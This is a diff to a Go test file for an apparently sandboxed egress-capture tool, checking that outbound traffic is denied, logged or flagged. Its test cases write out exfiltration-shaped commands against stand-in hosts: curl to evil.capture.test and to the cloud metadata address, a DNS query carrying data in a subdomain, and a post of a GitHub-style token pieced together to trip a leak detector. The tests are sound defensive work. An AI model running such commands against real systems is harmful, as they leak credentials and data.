@@ -16,6 +16,7 @@ import (
 	"path/filepath"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 
 	"github.com/bot-bottle/bottle/internal/journal"
@@ -33,9 +34,10 @@ type captureRig struct {
 	bottle  *Bottle
 	token   string // the credential, which is nowhere in the bottle
 
-	mu     sync.Mutex
-	got    []*http.Request
-	dialed int // how often the host's resolver was asked
+	dialed atomic.Int64 // how often the host's resolver was asked
+
+	mu  sync.Mutex
+	got []*http.Request
 }
 
 const captureManifest = `
@@ -70,9 +72,7 @@ func newCaptureRig(t *testing.T, capture string, programs ...string) *captureRig
 	m := p.trusted(fmt.Sprintf(captureManifest, r.startInternet(), plain.Listener.Addr(), echo, port, capture))
 	opt := p.options(m, sandbox.New(sandbox.Options{}))
 	opt.Resolver = &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
-		r.mu.Lock()
-		defer r.mu.Unlock()
-		r.dialed++
+		r.dialed.Add(1)
 		return nil, errors.New("there is no resolver in this test")
 	}}
 	prepared, err := Prepare(t.Context(), opt)
@@ -291,7 +291,7 @@ func TestProgramsThatKnowNoProxyAreCaptured(t *testing.T) {
 			t.Errorf("the journal has %+v", e)
 		}
 	}
-	if r.dialed > 0 {
+	if r.dialed.Load() > 0 {
 		t.Error("a resolver was asked")
 	}
 }
@@ -350,6 +350,9 @@ func TestCapturedConnectionsOfOtherKinds(t *testing.T) {
 		{"plain http, denied", curl("http://evil.capture.test/"), 0, "no route allows evil.capture.test:80"},
 		{"plain http for another name", curl("-H", "Host: plain.capture.test", "http://evil.capture.test/"), 0, " 403 "},
 		{"passed through", curl("--cacert", guestTarget+"/"+bundleName, "https://pass.capture.test/"), 0, "host=pass.capture.test"},
+		{"a credential in a body", curl("-d", "key="+"gh"+"p_"+"n3Kp8vWs2YtRq6HbZx0LmJc7DfGa4UeXo5Ti", "https://api.capture.test/"), 0, "dlp:github-token"},
+		{"HTTP/1.1 and a refusal", curl("--http1.1", "https://evil.capture.test/"), 0, "HTTP/1.1 403 "},
+		{"HTTP/2 and a refusal", curl("--http2", "https://evil.capture.test/"), 0, "HTTP/2 403"},
 		{"an address", curl("-k", "https://192.0.2.7/"), 0, "no route allows 192.0.2.7:443"},
 		{"the metadata service", curl("http://169.254.169.254/latest/meta-data/"), 0, "no route allows 169.254.169.254:80"},
 		{"IPv6", curl("-g", "http://[2001:db8::7]/"), 0, "no route allows [2001:db8::7]:80"},
@@ -426,12 +429,12 @@ func TestNamesLeaveByNoQuery(t *testing.T) {
 	if code, out := r.run("dig", "+tries=1", "+time=20", "@8.8.8.8", data+".evil.capture.test"); code == 0 {
 		t.Errorf("it answers: %s", out)
 	}
-	if r.dialed > 0 {
-		t.Fatalf("a resolver of the host was asked %d times", r.dialed)
+	if r.dialed.Load() > 0 {
+		t.Fatalf("a resolver of the host was asked %d times", r.dialed.Load())
 	}
 	// The resolver is the one that would have been asked.
 	_, _ = r.run("curl", "--noproxy", "*", "-sS", "--max-time", "60", "https://a.lookup.capture.test/")
-	if r.dialed == 0 {
+	if r.dialed.Load() == 0 {
 		t.Error("a request to an allowed name asked no resolver either, so this test shows nothing")
 	}
 	for _, e := range r.events() {
